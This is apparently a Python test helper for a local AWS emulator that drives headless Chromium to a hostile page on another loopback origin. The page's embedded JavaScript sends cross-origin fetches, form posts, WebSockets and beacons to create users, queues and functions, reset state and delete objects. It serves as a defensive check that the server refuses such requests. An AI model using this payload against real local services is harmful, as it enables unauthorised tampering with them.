"""A browser, and a page of another origin that tries everything a page can try against a server on the loopback address."""

import json
import os
import queue
import shutil
import signal
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
_FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
)
_FUNCTION = json.dumps(
    {"FunctionName": "eve", "Runtime": "python3.11", "Handler": "a.b", "Role": "arn:aws:iam::000000000000:role/r"}
)
# (method, path, content type, body) that a page sends by fetch and by form
COMMANDS = (
    ("POST", "/_ministack/reset", "text/plain", ""),
    ("POST", "/_ministack/config", "text/plain", '{"stepfunctions._SFN_WAIT_SCALE": 0}'),
    ("POST", "/2015-03-31/functions", "text/plain", _FUNCTION),
    ("POST", "/", "application/x-www-form-urlencoded", "Action=CreateUser&UserName=eve&Version=2010-05-08"),
    ("POST", "/", "application/x-www-form-urlencoded", "Action=CreateQueue&QueueName=eve&Version=2012-11-05"),
    ("POST", "/canary?delete", "text/plain", "<Delete><Object><Key>kept</Key></Object></Delete>"),
    ("PUT", "/eve", "text/plain", ""),
    ("PUT", "/canary/eve", "text/plain", "x"),
    ("DELETE", "/canary/kept", "", ""),
    ("GET", "/canary/kept", "", ""),
    ("GET", "/", "", ""),
    ("GET", "/health", "", ""),
    ("GET", "/_ministack/health", "", ""),
    ("GET", "/_ministack/sqs/messages", "", ""),
    ("GET", "/?Action=CreateUser&UserName=eve&Version=2010-05-08", "", ""),
    ("OPTIONS", "/", "", ""),
)
# The headers with which Chromium sent them, from another port of this address and from another site (seen on a recording server).
SENT_BY_A_BROWSER = tuple(
    headers
    for site in ("same-site", "cross-site")
    for headers in (
        {"Origin": "http://127.0.0.1:1", "Sec-Fetch-Site": site, "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty"},
        {
            "Origin": "http://127.0.0.1:1",
            "Sec-Fetch-Site": site,
            "Sec-Fetch-Mode": "no-cors",
            "Sec-Fetch-Dest": "empty",
        },
        {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"},
        {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "script"},
        {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"},
        {"Origin": "null", "Sec-Fetch-Site": site, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"},
        {"Origin": "http://127.0.0.1:1"},  # a browser without these headers
    )
)
_PAGE = """<!doctype html><title>evil</title><body><script>
const target = %(target)s, commands = %(commands)s, found = [];
const note = (what, seen) => found.push([what, seen]);
async function fetches() {
  for (const [method, path, type, body] of commands)
    for (const options of [{}, {mode: 'no-cors'}, {credentials: 'include'}, {mode: 'no-cors', credentials: 'include'},
                           {headers: {'X-Amz-Target': 'SageMaker.ListPipelines'}}]) {
      const given = {...options, method, headers: {...(type ? {'Content-Type': type} : {}), ...options.headers}};
      if (method !== 'GET') given.body = body;
      try {
        const answer = await fetch(target + path, given);
        note('fetch ' + method + ' ' + path, [answer.type, answer.status, await answer.text()]);
      } catch (error) { note('fetch ' + method + ' ' + path, ['error', 0, '']); }
    }
}
function loads(name, path, attributes) {
  return new Promise(done => {
    const made = Object.assign(document.createElement(name), attributes);
    made.onload = () => { note(name + ' ' + path, ['loaded', 0, '']); done(); };
    made.onerror = () => { note(name + ' ' + path, ['error', 0, '']); done(); };
    document.body.append(made);
  });
}
function socket(path) {
  return new Promise(done => {
    const made = new WebSocket(target.replace('http', 'ws') + path);
    made.onopen = () => { note('socket ' + path, ['open', 0, '']); done(); };
    made.onerror = () => { note('socket ' + path, ['error', 0, '']); done(); };
  });
}
function form(method, path, body) {
  return new Promise(done => {
    const frame = Object.assign(document.createElement('iframe'), {name: 'f' + Math.random()});
    const made = Object.assign(document.createElement('form'), {method, action: target + path, target: frame.name});
    for (const pair of body.split('&')) {
      const [name, value] = pair.split('=');
      made.append(Object.assign(document.createElement('input'), {name, value: value || ''}));
    }
    let times = 0;
    frame.onload = () => {
      if (!times++) return made.submit();
      let seen = '';
      try { seen = frame.contentDocument.body.innerText; } catch (error) { seen = ''; }
      note('form ' + method + ' ' + path, ['loaded', 0, seen]); done();
    };
    document.body.append(frame, made);
  });
}
(async () => {
  await fetches();
  await loads('img', '/health', {src: target + '/health'});
  await loads('script', '/canary/kept', {src: target + '/canary/kept'});
  await socket('/'); await socket('/_aws/execute-api/0123abcd/stage');
  for (const [method, path, type, body] of commands) if (method === 'POST') await form(method, path, body);
  await form('GET', '/_ministack/health', 'a=b');
  navigator.sendBeacon(target + '/_ministack/reset', 'x');
  await fetch('/found', {method: 'POST', body: JSON.stringify(found)});
})();
</script>"""


@dataclass
class Recorder:
    """A server that answers everything, as one without a door, and keeps what came."""

    endpoint: str = ""
    page: str = ""
    seen: list[tuple[str, str, dict[str, str]]] = field(default_factory=list)
    told: "queue.Queue[bytes]" = field(default_factory=queue.Queue)


def attack(target: str) -> str:
    """The page."""
    return _PAGE % {"target": json.dumps(target), "commands": json.dumps(COMMANDS)}


@contextmanager
def recording() -> Iterator[Recorder]:
    """A recorder on a loopback port; it serves ``page`` at /page.html, takes what that tells at /found, and answers everything else."""
    recorder = Recorder()

    class Handler(BaseHTTPRequestHandler):
        def _any(self) -> None:
            sent = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            shown = self.path == "/page.html"
            if self.path == "/found":
                recorder.told.put(sent)
            elif not shown:
                recorder.seen.append((self.command, self.path, dict(self.headers)))
            body = recorder.page.encode() if shown else b"a secret"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            for name in ("Origin", "Methods", "Headers"):
                self.send_header(f"Access-Control-Allow-{name}", "*")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = do_HEAD = _any  # noqa: N815

        def log_message(self, *_: Any) -> None:
            pass

    class Quiet(ThreadingHTTPServer):
        def handle_error(self, request: Any, client_address: Any) -> None:
            """A browser that ends leaves broken connections."""

    server = Quiet(("127.0.0.1", 0), Handler)
    recorder.endpoint = f"http://127.0.0.1:{server.server_address[1]}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield recorder
    finally:
        server.shutdown()
        server.server_close()


def dumped(url: str, profile: Path, *flags: str) -> str:
    """The document that Chromium has after a page's script has ended."""
    assert CHROMIUM is not None
    command = [CHROMIUM, *_FLAGS, "--dump-dom", "--virtual-time-budget=5000", f"--user-data-dir={profile}", *flags, url]
    done = subprocess.run(command, capture_output=True, text=True, timeout=180, check=False)
    return done.stdout


def opened(url: str, profile: Path, shown: Callable[[], bool], done: Callable[[], bool]) -> None:
    """Chromium on a page, a minute at most until it is shown; then a few seconds, or until something is done."""
    assert CHROMIUM is not None
    command = [CHROMIUM, *_FLAGS, f"--user-data-dir={profile}", url]
    with subprocess.Popen(
        command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    ) as browser:
        try:
            _wait(shown, 60)
            _wait(done, 5)
        finally:
            os.killpg(browser.pid, signal.SIGKILL)


def _wait(done: Callable[[], bool], seconds: float) -> None:
    until = time.monotonic() + seconds
    while not done() and time.monotonic() < until:
        time.sleep(0.1)


def attacked(target: str, profile: Path) -> list[tuple[str, tuple[str, int, str]]]:
    """What the page noted of its attempts on ``target``: (attempt, (kind of answer, status, text))."""
    assert CHROMIUM is not None
    with recording() as evil:
        evil.page = attack(target)
        command = [CHROMIUM, *_FLAGS, f"--user-data-dir={profile}", f"{evil.endpoint}/page.html"]
        with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as browser:
            try:
                told = json.loads(evil.told.get(timeout=120))
            finally:
                browser.terminate()
    return [(what, (kind, status, seen)) for what, (kind, status, seen) in told]
